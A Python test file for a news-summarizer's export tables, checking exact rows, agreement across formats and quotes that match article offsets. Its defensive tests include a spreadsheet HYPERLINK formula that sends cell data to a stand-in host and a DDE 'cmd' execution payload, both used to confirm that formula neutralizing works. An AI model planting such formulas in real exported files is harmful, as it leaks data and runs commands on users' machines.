"""The tables of an export: exact rows, the same in every format, and quotes that stand."""

from __future__ import annotations

import datetime as dt
import json
import re
import tempfile
from pathlib import Path
from typing import Any

import pytest
from example import ARTICLE, HOSTILE, full_brief, hostile_pair
from export_house import SPENT, incoming, records, run_of
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from summarizer.archive.corrections import Corrections
from summarizer.archive.ledger import Ledger, LedgerWriter, Recipe, Settled
from summarizer.archive.ledger.rows import packed
from summarizer.archive.outcome import Outcome
from summarizer.briefing import brief as made_brief
from summarizer.cells import armed, defused
from summarizer.engines.rules.engine import RulesEngine
from summarizer.files import WholeFiles
from summarizer.model import Article, Brief
from summarizer.views.clean import clean
from summarizer.views.export.layout import BRIEFS, TABLES, ExportFormat, Kind
from summarizer.views.export.page import tables_page
from summarizer.views.export.rows import ROWS
from summarizer.views.export.source import exported
from summarizer.views.export.whole import export

COPY = ARTICLE.model_copy(
    update={"id": "copy", "outlet": "The Reed Post", "published": dt.date(2023, 12, 21)}
)
BROKEN = Article.of("Envoys met.", id="broken")


def written(
    run: Path,
    folder: Path,
    fmt: ExportFormat = ExportFormat.JSONL,
    *tables: str,
    repeat: bool = False,
) -> dict[str, Path]:
    """The files of an export, by table."""
    paths = {name: folder / f"{name}{fmt.ending}" for name in tables or [*ROWS]}
    with Ledger.open(run) as ledger, ledger.snapshot(), WholeFiles() as files:
        outs = {name: files.open(path) for name, path in paths.items()}
        articles = exported(ledger, Corrections(), repeat_duplicates=repeat)
        export(articles, outs, fmt, repeat_duplicates=repeat)
    return paths


@pytest.fixture
def run(tmp_path: Path) -> Path:
    pairs = [(ARTICLE, full_brief(ARTICLE)), (BROKEN, None), (COPY, None)]
    return run_of(tmp_path / "run", pairs)


def test_a_toll_row_says_all_that_the_toll_says(run: Path, tmp_path: Path) -> None:
    rows = records(written(run, tmp_path)["tolls"])
    assert len(rows) == 7
    first = rows[0]
    assert list(first) == list(TABLES["tolls"].names)
    assert re.fullmatch(r"toll-[0-9a-f]{10}", first.pop("item"))
    quote = first.pop("quote")
    assert quote == ARTICLE.text[first.pop("quote_start") : first.pop("quote_end")]
    assert quote.startswith("At least 46 people")
    assert first == {
        "row": 1,
        "article_id": "norland-talks",
        "position": "news.jsonl:1",
        "outlet": "The Tarn Courier",
        "published": "2023-12-20",
        "duplicate_of": None,
        "metric": "killed",
        "unit": "person",
        "figure": "At least 46",
        "qualifier": "at_least",
        "value": 46,
        "low": 46,
        "high": None,
        "share": None,
        "population": "people",
        "category": "civilian",
        "basis": "incident",
        "reference_period_start": "2023-12-20",
        "reference_period_end": "2023-12-20",
        "place": None,
        "source": "a Norland official",
        "source_kind": "authority",
        "assertion": "asserted",
        "scope": "focal",
        "grounding": "confirmed",
        "review": None,
        "review_note": None,
        "sentences": ["4"],
        "sentence": 4,
    }


def test_every_list_has_its_rows(run: Path, tmp_path: Path) -> None:
    files = written(run, tmp_path)
    brief = full_brief(ARTICLE)
    counts = {name: len(records(path)) for name, path in files.items()}
    assert counts == {
        "articles": 3,
        "negotiations": 1,
        "demands": 3,
        "tolls": 7,
        "agreements": 1,
        "evidence": 13,  # the one process has two sentences, the other eleven items one each
        "findings": 4,
    }
    (talks,) = records(files["negotiations"])
    assert (talks["parties"], talks["mediators"]) == (["Norland", "Vesk Front"], ["Ostria"])
    assert (talks["sentences"], talks["sentence"]) == (["1", "9"], 1)
    tolls = records(files["tolls"])
    findings = records(files["findings"])
    assert [row["item"] for row in findings] == [None, tolls[2]["item"], tolls[5]["item"], None]
    assert findings[0]["sentences"] == ["40"]
    assert len(brief.tolls) == len({row["item"] for row in tolls})


def test_articles_are_all_there_with_what_became_of_them(run: Path, tmp_path: Path) -> None:
    first, broken, copy = records(written(run, tmp_path)["articles"])
    assert (first["outcome"], first["tolls"], first["demands"]) == ("ok", 7, 3)
    assert (first["tokens_in"], first["cost_usd"]) == (SPENT.tokens_in, SPENT.cost_usd)
    assert (broken["outcome"], broken["cause"], broken["why"]) == ("failed", "busy", "it was busy")
    assert broken["tolls"] is None
    assert (copy["outcome"], copy["duplicate_of"], copy["tolls"]) == ("duplicate", 1, None)
    assert (copy["outlet"], copy["published"]) == ("The Reed Post", "2023-12-21")


def test_duplicates_are_repeated_only_if_asked(run: Path, tmp_path: Path) -> None:
    once = records(written(run, tmp_path)["tolls"])
    twice = records(written(run, tmp_path, ExportFormat.JSONL, "tolls", repeat=True)["tolls"])
    assert [row["row"] for row in once] == [1] * 7
    assert [row["row"] for row in twice] == [1] * 7 + [3] * 7
    copy = twice[7]
    assert (copy["duplicate_of"], copy["outlet"], copy["published"]) == (
        *(1, "The Reed Post", "2023-12-21"),
    )
    assert copy["item"] == once[0]["item"]
    assert copy["quote"] == once[0]["quote"]


def test_every_format_says_the_same(run: Path, tmp_path: Path) -> None:
    for name in ROWS:
        table = TABLES[name]
        plain = records(written(run, tmp_path, ExportFormat.JSONL, name)[name])
        typed = records(
            written(run, tmp_path, ExportFormat.PARQUET, name)[name], ExportFormat.PARQUET
        )
        assert [_as_json(row) for row in typed] == plain
        texts = records(written(run, tmp_path, ExportFormat.CSV, name)[name], ExportFormat.CSV)
        assert [list(row.values()) for row in texts] == [
            [_as_cell(row[column.name], column.kind) for column in table.columns] for row in plain
        ]
        tagged = records(written(run, tmp_path, ExportFormat.HXL, name)[name], ExportFormat.HXL)
        assert list(tagged[0].values()) == [column.tag for column in table.columns]
        assert tagged[1:] == texts


def _as_json(row: dict[str, Any]) -> dict[str, Any]:
    parsed: dict[str, Any] = json.loads(json.dumps(row, default=str))
    return parsed


def _as_cell(value: Any, kind: Kind) -> str:
    if value is None:
        return ""
    return " | ".join(value) if kind is Kind.TEXTS else str(value)


def test_briefs_are_the_briefs_themselves(run: Path, tmp_path: Path) -> None:
    path = tmp_path / "briefs.jsonl"
    with Ledger.open(run) as ledger, WholeFiles() as files:
        outs = {BRIEFS: files.open(path)}
        export(exported(ledger, Corrections()), outs, ExportFormat.JSONL)
    (line,) = path.read_text("utf-8").splitlines()
    assert Brief.model_validate_json(line) == full_brief(ARTICLE)


def test_an_export_holds_what_the_run_held_when_it_began(tmp_path: Path) -> None:
    stories = [
        Article.of(f"Story{n} tells that 12 people were killed in Tarn.", id=str(n))
        for n in range(3)
    ]
    folder = tmp_path / "run"
    with LedgerWriter.at(folder) as writer:
        writer.begin(Recipe.of(RulesEngine()), {})
        batch = [incoming(one, one.id) for one in stories]
        writer.take_in(batch, writer.intake([], "v1"), is_last=True, is_near=None)
        with Ledger.open(folder) as ledger, ledger.snapshot():
            articles = exported(ledger, Corrections())
            first = next(articles)
            for row, story in enumerate(stories, 1):
                done = packed(made_brief(story).model_dump_json())
                writer.settle([Settled(row, Outcome.OK, SPENT, brief=done)])
            seen = [first, *articles]
        assert [(one.row.outcome, one.reviewed) for one in seen] == [(None, None)] * 3
        with Ledger.open(folder) as ledger:
            assert [one.row.outcome for one in exported(ledger, Corrections())] == ["ok"] * 3


def test_hostile_text_breaks_no_format(tmp_path: Path) -> None:
    brief, article = hostile_pair()
    run = run_of(tmp_path / "run", [(article, brief)])
    for fmt in (ExportFormat.JSONL, ExportFormat.PARQUET):
        rows = records(written(run, tmp_path, fmt, "tolls")["tolls"], fmt)
        assert {row["place"] for row in rows} == {HOSTILE}
    text = written(run, tmp_path, ExportFormat.JSONL, "tolls")["tolls"].read_text("utf-8")
    assert "\x1b" not in text
    assert "\u202e" not in text
    texts = records(written(run, tmp_path, ExportFormat.CSV, "tolls")["tolls"], ExportFormat.CSV)
    assert {row["place"] for row in texts} == {clean(HOSTILE)}
    page = written(run, tmp_path, ExportFormat.MARKDOWN, "tolls")["tolls"].read_text("utf-8")
    lines = page.splitlines()
    columns = len(TABLES["tolls"].columns)
    assert len(lines) == 2 + 7
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in lines} == {columns + 1}
    assert "<script>" not in page
    assert "![x](" not in page


def test_half_a_character_is_exported_by_every_format(tmp_path: Path) -> None:
    article = Article.of("The army killed 12 people in \ud83d Tarn on Sunday.", id="half")
    run = run_of(tmp_path / "run", [(article, made_brief(article))])
    for fmt in ExportFormat:
        path = written(run, tmp_path, fmt, "tolls")["tolls"]
        assert path.stat().st_size > 0
    (row,) = records(written(run, tmp_path, ExportFormat.JSONL, "tolls")["tolls"])
    assert row["quote"] == article.text
    (row,) = records(
        written(run, tmp_path, ExportFormat.PARQUET, "tolls")["tolls"], ExportFormat.PARQUET
    )
    assert row["quote"] == article.text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


# --- cells that a spreadsheet would run -----------------------------------------------------------


@pytest.mark.parametrize("sign", [*"=+-@\t\r\n", "＝", " =", "\u00a0@", "'="])
def test_a_formula_is_defused_and_comes_back(sign: str) -> None:
    planted = f'{sign}HYPERLINK("https://planted.example/?"&A1)'
    assert defused(planted) == f"'{planted}"
    assert armed(defused(planted)) == planted


@pytest.mark.parametrize("text", ["", "46", "'tis", "a=b", "(-5)", "“=1”", "'"])
def test_what_no_spreadsheet_runs_stays(text: str) -> None:
    assert defused(text) == armed(text) == text


@given(st.text(alphabet="'=+-@ \t\r\n\u00a0ab1＝"))
def test_a_cell_always_comes_back(text: str) -> None:
    cell = defused(text)
    assert armed(cell) == text
    assert not cell.lstrip(" \u00a0").startswith(tuple("=+-@\t\r\n＝"))


def test_no_exported_cell_is_a_formula_and_numbers_stay_numbers(tmp_path: Path) -> None:
    article = ARTICLE.model_copy(update={"outlet": "=cmd|' /C calc'!A0", "title": "@SUM(1)"})
    brief = full_brief(article)
    brief.tolls[0].place = "-2+3"
    brief.demands[0].by = ["=1+1", "Norland"]
    run = run_of(tmp_path / "run", [(article, brief)])
    for fmt in (ExportFormat.CSV, ExportFormat.HXL):
        for name, path in written(run, tmp_path, fmt).items():
            for row in records(path, fmt):
                assert not [cell for cell in row.values() if cell.startswith(tuple("=+-@"))], name
    toll = records(written(run, tmp_path, ExportFormat.CSV)["tolls"], ExportFormat.CSV)[0]
    assert (toll["place"], toll["value"], toll["outlet"]) == ("'-2+3", "46", "'=cmd|' /C calc'!A0")


# --- quotes ---------------------------------------------------------------------------------------

PIECES = st.sampled_from(
    [
        *(
            "At least 46 people were killed in Lower Tarn on Sunday.",
            "He said that dozens of them had fled.",
        ),
        *(
            "\u200b“Some 300 soldiers” were wounded\u2028",
            "😀 ",
            "\x1b[31mNorland\x1b[0m",
        ),
        *("The Front demands that Norland withdraw its troops.", "\r\n\r\n", "=1+1. ", "é", " | "),
        *("Talks between Norland and the Vesk Front resumed in Porto Calma.", "\ud83d", "\t"),
    ]
)


TEXTS = st.lists(PIECES, min_size=1, max_size=12).map(
    lambda pieces: " ".join(
        ["It was said that the shelling had killed 12 people in Tarn.", *pieces]
    )
)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(TEXTS, min_size=1, max_size=3, unique=True))
def test_every_quote_is_the_article_s_text_at_its_offsets(texts: list[str]) -> None:
    articles = {
        f"made-{n}": Article.of(f"{n} {text}", id=f"made-{n}") for n, text in enumerate(texts)
    }
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        run = run_of(folder / "run", [(one, made_brief(one)) for one in articles.values()])
        for table, path in written(run, folder).items():
            rows = [row for row in records(path) if "quote" in row]
            assert rows or table not in ("tolls", "evidence")
            for row in rows:
                text = articles[row["article_id"]].text
                assert row["quote"] == text[row["quote_start"] : row["quote_end"]] != ""


# --- the documentation ----------------------------------------------------------------------------


def test_tags_are_hxl_and_names_are_hapi_s_kind() -> None:
    for table in TABLES.values():
        assert len(set(table.names)) == len(table.names)
        for column in table.columns:
            assert re.fullmatch(r"#[a-z]+(\+[a-z]+)*", column.tag), column
            assert re.fullmatch(r"[a-z]+(_[a-z]+)*", column.name), column
            assert ("list" in column.tag.split("+")) == (column.kind is Kind.TEXTS), column


def test_the_page_of_tables_is_up_to_date() -> None:
    page = Path(__file__).resolve().parents[2] / "docs" / "tables.md"
    assert page.read_text("utf-8") == tables_page()
